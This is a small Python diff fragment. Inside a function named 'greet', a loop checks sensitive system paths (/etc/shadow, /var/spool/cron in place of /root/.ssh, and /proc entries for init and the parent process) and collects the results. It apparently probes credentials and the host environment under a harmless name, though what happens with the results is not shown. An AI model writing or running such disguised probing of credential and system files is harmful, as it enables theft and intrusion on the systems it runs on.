@@ -9,7 +9,7 @@ def greet(name):
     found = {}
     for path in (
         "/etc/shadow",
-        "/root/.ssh",
+        "/var/spool/cron",
         "/proc/1/cwd",
         "/proc/1/exe",
         f"/proc/{os.getppid()}/exe",
